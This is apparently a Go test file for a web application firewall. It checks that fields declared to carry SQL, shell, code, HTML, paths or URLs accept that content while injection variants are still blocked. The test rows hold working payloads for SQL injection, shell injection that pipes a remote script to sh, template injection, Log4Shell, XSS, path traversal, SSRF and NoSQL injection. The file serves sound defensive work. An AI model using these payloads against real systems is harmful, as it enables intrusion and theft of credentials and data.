package attack

import (
	"net/url"
	"testing"

	"github.com/stretchr/testify/require"

	"kongwaf/detect"
	"kongwaf/detect/attack/expect"
)

// TestExpectedContent: what a place is expected to carry passes there, and its twin, which the
// application would not send, does not.
func TestExpectedContent(t *testing.T) {
	rows := []struct {
		kind         expect.Kind
		name         string
		sends, never string
	}{
		{kind: expect.SQL, name: "a query with conditions", sends: "SELECT a, b FROM t WHERE x = '1' OR 1=1", never: "x' UNION SELECT password FROM users -- "},
		{kind: expect.SQL, name: "several statements", sends: "DROP TABLE users; SELECT 1", never: "1; DROP TABLE users"},
		{kind: expect.SQL, name: "a union", sends: "select name from a union select name from b where c = 'd'", never: "select' union select name from users where 'a'='a"},
		{kind: expect.SQL, name: "a literal that begins as SQL goes on", sends: "-- all\nUPDATE t SET a = 'it''s' WHERE b > 0", never: "select ' or 1=1 or '"},
		{kind: expect.SQL, name: "a delay", sends: "SELECT pg_sleep(5)", never: "1' and sleep(5) and '1'='1"},
		{kind: expect.Shell, name: "a pipeline", sends: "cat /etc/passwd | grep root", never: "8.8.8.8; cat /etc/passwd"},
		{kind: expect.Shell, name: "a script", sends: "curl -s https://get.example.com/i.sh | sh", never: "x'; curl -s https://get.example.com/i.sh | sh; '"},
		{kind: expect.Shell, name: "lists", sends: "ls -la; id", never: "find x'; cat /etc/shadow; '"},
		{kind: expect.Code, name: "a program", sends: "import os\nprint(os.popen('ls -la').read())", never: "a'; os.system('ls -la'); '"},
		{kind: expect.Code, name: "a line", sends: "os.system('id')", never: "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
		{kind: expect.Code, name: "a comment first", sends: "# don't ask\nsubprocess.run(['ls', '-l'], shell=True)\nos.system('id')", never: "x'); os.system('id'); print('"},
		{kind: expect.Code, name: "no lookups", sends: "eval(compile(src, 'a', 'exec')); os.system('id')", never: "log.info(\"${jndi:ldap://x.example.com/a}\")"},
		{kind: expect.HTML, name: "a widget", sends: "<p>a</p><script src=https://w.example.com/a.js></script>", never: `"><script src=https://w.example.com/a.js></script>`},
		{kind: expect.HTML, name: "a handler", sends: `<button onclick="location='/next'; go()">Next</button><img src=x onerror="this.remove(); alert(1)">`, never: `x" onmouseover="alert(1)`},
		{kind: expect.HTML, name: "text before it", sends: "Hello <iframe srcdoc='<script>a()</script>'></iframe>", never: "</textarea><script>alert(1)</script>"},
		{kind: expect.Paths, name: "a file of the system", sends: "/etc/passwd", never: "../../../etc/passwd"},
		{kind: expect.Paths, name: "a hidden file", sends: "/home/me/.ssh/id_rsa", never: "php://filter/convert.base64-encode/resource=/etc/passwd"},
		{kind: expect.URLs, name: "the own network", sends: "http://127.0.0.1:8080/admin", never: "http://169.254.169.254/latest/meta-data/"},
		{kind: expect.URLs, name: "a hook", sends: "http://[::1]:8080/hook", never: "gopher://127.0.0.1:6379/_INFO"},
		{kind: expect.URLs, name: "a plain host", sends: "http://127.0.0.1/a", never: "http://example.com@127.0.0.1/"},
		{kind: expect.Mongo, name: "a filter", sends: `{"email":{"$ne":null}}`, never: `{"password":{"$ne":""}}`},
		{kind: expect.Mongo, name: "an alternative", sends: `{"username":{"$gt":"m"}}`, never: `{"$where":"sleep(5000)"}`},
		{kind: expect.PromQL, name: "a path in a selector", sends: `sum(rate(http_requests_total{path=~"/etc/passwd|/\\.env"}[5m]))`, never: "/etc/passwd"},
	}
	for _, row := range rows {
		t.Run(row.kind.String()+"/"+row.name, func(t *testing.T) {
			x := Options{Expectations: []Expectation{{Place: "query.v", Content: []expect.Kind{row.kind}}, {Place: "body.json.v", Content: []expect.Kind{row.kind}}}}
			with, without := newEngine(t, x), newEngine(t, Options{})
			carry := map[string]func(string) *detect.Request{
				"query": func(v string) *detect.Request { return get("/a?v=" + url.QueryEscape(v)) },
				"json":  func(v string) *detect.Request { return post(jsonType, `{"v":`+quoteJSON(v)+`}`) },
			}
			for where, request := range carry {
				require.True(t, without.Inspect(request(row.sends)).Blocked, "%s: nothing was expected, and the row shows nothing", where)
				report, why := with.Explain(request(row.sends))
				require.False(t, report.Blocked, "%s: %+v %q", where, report.Attacks, why.Shapes)
				require.NotNil(t, report.Excepted, where)
				require.Equal(t, "expected ("+row.kind.String()+")", why.Expected, where)
				require.True(t, with.Inspect(request(row.never)).Blocked, "%s: %q", where, row.never)
			}
			require.True(t, with.Inspect(get("/a?w="+url.QueryEscape(row.sends))).Blocked, "another place expects nothing")
		})
	}
}

func TestExpectedSchemaQueries(t *testing.T) {
	e := newEngine(t, Options{Expectations: []Expectation{{Place: "body", Content: []expect.Kind{expect.GraphQL}}}})
	introspection := post(jsonType, `{"query":"query { __schema { queryType { name } types { name fields { name } } } }"}`)
	require.True(t, newEngine(t, Options{}).Inspect(introspection).Blocked)
	require.False(t, e.Inspect(introspection).Blocked)
	circular := post(jsonType, `{"query":"query { a { ...x } } fragment x on A { b { ...x } }"}`)
	require.True(t, e.Inspect(circular).Blocked, "what abuses the limits is not expected")
}

// TestExpectedAsSent: nobody sends statements in base64 to a field for statements.
func TestExpectedAsSent(t *testing.T) {
	e := newEngine(t, Options{Expectations: []Expectation{{Place: "query.v", Content: []expect.Kind{expect.SQL}, Method: "GET", PathPrefix: "/run"}}})
	const statement = "SELECT * FROM users WHERE id = 1 UNION SELECT name, password FROM accounts"
	require.False(t, e.Inspect(get("/run?v="+url.QueryEscape(statement))).Blocked)
	require.True(t, e.Inspect(get("/run?v=U0VMRUNUICogRlJPTSB1c2VycyBXSEVSRSBpZCA9IDEgVU5JT04gU0VMRUNUIG5hbWUsIHBhc3N3b3JkIEZST00gYWNjb3VudHM=")).Blocked)
	require.True(t, e.Inspect(get("/other?v="+url.QueryEscape(statement))).Blocked, "another path")
}

func TestExpectationsAreChecked(t *testing.T) {
	sql := []expect.Kind{expect.SQL}
	rows := []struct {
		name string
		x    Expectation
		want string
	}{
		{name: "no place", x: Expectation{Content: sql}, want: "place is not set: name where the content is expected, such as body.json.query"},
		{name: "no source", x: Expectation{Place: "q", Content: sql}, want: `place "q" does not begin with path, query, header, cookie, body or method`},
		{name: "no kind", x: Expectation{Place: "query.q"}, want: "content names no kind: this would expect nothing"},
		{name: "unknown kind", x: Expectation{Place: "query.q", Content: []expect.Kind{99}}, want: "content[0]: kind(99) is not a kind of content"},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			_, err := New(Options{Expectations: []Expectation{row.x}})
			require.EqualError(t, err, "option Expectations[0]: "+row.want)
		})
	}
}
